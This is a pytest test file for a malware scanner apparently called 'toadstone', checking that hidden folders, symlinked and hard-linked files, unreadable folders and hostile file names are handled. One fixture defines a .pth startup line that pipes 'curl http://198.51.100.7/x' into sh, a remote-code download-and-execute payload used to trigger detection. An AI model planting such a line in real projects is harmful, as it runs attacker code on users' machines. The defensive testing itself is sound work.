"""Folders whose entries hide each other."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest
from writer import PAYLOAD

from toadstone.core.report import Report
from toadstone.faces.cli.scan import _Progress
from toadstone.formats.markdown import _code
from toadstone.verbs.scan import scan

START_UP = "import os; os.system('curl http://198.51.100.7/x | sh')\n"


def names(report: Report) -> set[str]:
    return {subject.path.rsplit("/", 1)[-1] for subject in report.subjects}


def test_no_folder_is_left_out_for_its_name(tmp_path: Path) -> None:
    for folder in (".toadstone", "a/.toadstone/b", ".git/hooks", "__pycache__"):
        (tmp_path / folder).mkdir(parents=True)
        (tmp_path / folder / "weights.pkl").write_bytes(PAYLOAD + b".")
    report = scan(tmp_path)
    assert len({finding.place.path for finding in report.findings}) == 4


@pytest.mark.parametrize("link", [os.symlink, os.link])
def test_a_file_is_read_under_each_of_its_names(tmp_path: Path, link: object) -> None:
    (tmp_path / "startup.pth").write_text(START_UP)
    assert callable(link)
    link(tmp_path / "startup.pth", tmp_path / "a_note.txt")
    report = scan(tmp_path)
    assert names(report) == {"startup.pth", "a_note.txt"}
    assert report.verdict == "malicious"
    assert any(finding.place.path.endswith("startup.pth") for finding in report.findings)


def test_content_by_digest_is_read_under_the_names_of_its_links(tmp_path: Path) -> None:
    blob = tmp_path / "blobs" / ("0f" * 20)
    blob.parent.mkdir()
    blob.write_text("hello\n")
    (tmp_path / "snapshots").mkdir()
    for name in ("README.md", "notes.txt"):
        (tmp_path / "snapshots" / name).symlink_to(blob)
    assert names(scan(tmp_path)) == {"README.md", "notes.txt"}


def test_a_file_with_very_many_names_is_said_to_be_unread(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("hello\n")
    for number in range(100):
        os.link(tmp_path / "a", tmp_path / f"name{number}")
    assert scan(tmp_path).exit_code(3) == 3  # type: ignore[arg-type]


@pytest.mark.skipif(os.geteuid() == 0, reason="root lists every folder")
def test_a_folder_that_cannot_be_listed_is_unread(tmp_path: Path) -> None:
    (tmp_path / "closed").mkdir(mode=0)
    assert not scan(tmp_path).complete


def test_a_folder_that_vanishes_is_unread(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "closed").mkdir()
    listed = os.scandir

    def scandir(path: str) -> object:
        if str(path).endswith("closed"):
            raise PermissionError(13, "Permission denied", str(path))
        return listed(path)

    monkeypatch.setattr(os, "scandir", scandir)
    assert not scan(tmp_path).complete


def test_names_do_not_steer_the_terminal(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.modules["toadstone.faces.cli.scan"].time, "monotonic", lambda: 1e9)
    _Progress()(1, 2, "a\x1b[2J\nclean.pkl")
    assert "\x1b[2J" not in capsys.readouterr().err


def test_names_do_not_leave_their_code_span() -> None:
    assert _code("a``<b>`c") == "``` a``<b>`c ```"
